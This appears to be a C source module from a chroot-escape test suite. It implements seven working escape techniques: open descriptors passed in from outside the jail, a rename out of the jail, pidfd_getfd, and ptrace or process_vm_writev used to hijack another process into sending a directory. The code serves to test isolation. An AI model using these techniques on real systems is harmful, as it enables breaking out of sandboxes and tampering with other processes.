// SPDX-License-Identifier: GPL-2.0
/*
 * A process of the same user outside the jail that helps, or only is there,
 * and an administrator who leaves something open. No chroot holds these.
 */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

#include "escape.h"

static pid_t outsider;

/* -- it helps ---------------------------------------------------------------------- */

static void send_top(void)
{
	wait_byte(pair[1]);
	send_fd(pair[1], open_directory(top));
}

static void helper_with_pair(void)
{
	make_pair();
	spawn_outside(send_top);
}

static void ask_for_directory(void)
{
	send_byte(pair[0]);
	look(receive_fd(pair[0]));
}

static void send_top_to_whom_connects(void)
{
	const int listener = abstract_socket(true);

	send_byte(pair[1]);
	send_fd(accept(listener, NULL, NULL), open_directory(top));
}

static void helper_on_abstract_socket(void)
{
	make_pair();
	spawn_outside(send_top_to_whom_connects);
	wait_byte(pair[0]);
}

static void connect_outside(void)
{
	look(receive_fd(abstract_socket(false)));
}

static void move_out(void)
{
	wait_byte(pair[1]);
	must(rename(path_in(jail, "d"), path_in(top, "d")) == 0);
	send_byte(pair[1]);
}

static void helper_that_renames(void)
{
	make_pair();
	spawn_outside(move_out);
}

static void be_moved(void)
{
	must(chdir("/d/e") == 0);
	send_byte(pair[0]);
	wait_byte(pair[0]);
	look(AT_FDCWD);
}

/* -- it is only there ------------------------------------------------------------------ */

static int victims_directory;

static void hold_top(void)
{
	const int fd = open_directory(top);

	must(write(pair[1], &fd, sizeof(fd)) == sizeof(fd));
	stay();
}

static void outsider_with_directory(void)
{
	make_pair();
	outsider = spawn_outside(hold_top);
	must(read(pair[0], &victims_directory, sizeof(int)) == sizeof(int));
}

static void take_from_outsider(void)
{
	const int fd = sys_pidfd_getfd(sys_pidfd_open(outsider), victims_directory);

	if (fd < 0)
		unavailable("pidfd_getfd: %s", strerror(errno));
	look(fd);
}

/* What the outsider does next, and what it is made to do. */
static void do_nothing(void)
{
}

static void open_and_send(void)
{
	send_fd(pair[1], open_directory(top));
	stay();
}

static void (*volatile next)(void) = do_nothing;

static void work(void)
{
	send_byte(pair[1]);
	for (;;) {
		next();
		usleep(1000);
	}
}

static void outsider_at_work(void)
{
	make_pair();
	outsider = spawn_outside(work);
	wait_byte(pair[0]);
}

static void trace_outsider(void)
{
	if (ptrace(PTRACE_ATTACH, outsider, NULL, NULL))
		unavailable("ptrace: %s", strerror(errno));
	/* Not its parent, and still told: it is traced. */
	must(waitpid(outsider, NULL, __WALL) == outsider);
	must(ptrace(PTRACE_POKEDATA, outsider, &next, open_and_send) == 0);
	must(ptrace(PTRACE_DETACH, outsider, NULL, NULL) == 0);
	look(receive_fd(pair[0]));
}

static void write_to_outsider(void)
{
	void (*function)(void) = open_and_send;
	const struct iovec here = { .iov_base = &function, .iov_len = sizeof(function) };
	const struct iovec there = { .iov_base = (void *)&next, .iov_len = sizeof(function) };

	if (process_vm_writev(outsider, &here, 1, &there, 1, 0) != sizeof(function))
		unavailable("process_vm_writev: %s", strerror(errno));
	look(receive_fd(pair[0]));
}

/* -- nobody is there: the administrator was careless -------------------------------------- */

static int left_open;

static void leave_open(void)
{
	left_open = open_directory(top);
}

static void use_left_open(void)
{
	look(left_open);
}

const struct technique accomplice_techniques[] = {
	{ "directory left open by the administrator", .prepare = leave_open,
	  .attack = use_left_open, .nested = OUT },
	{ "helper outside sends a directory, socketpair", .prepare = helper_with_pair,
	  .attack = ask_for_directory, .nested = OUT },
	{ "helper outside sends a directory, abstract socket",
	  .prepare = helper_on_abstract_socket, .attack = connect_outside, .nested = OUT },
	{ "helper outside renames the working directory out", .prepare = helper_that_renames,
	  .attack = be_moved, .nested = OUT },
	{ "process of the same user outside, pidfd_getfd", .prepare = outsider_with_directory,
	  .attack = take_from_outsider, .nested = OUT },
	{ "process of the same user outside, ptrace", .prepare = outsider_at_work,
	  .attack = trace_outsider, .nested = OUT },
	{ "process of the same user outside, process_vm_writev", .prepare = outsider_at_work,
	  .attack = write_to_outsider, .nested = OUT },
	{ 0 }
};
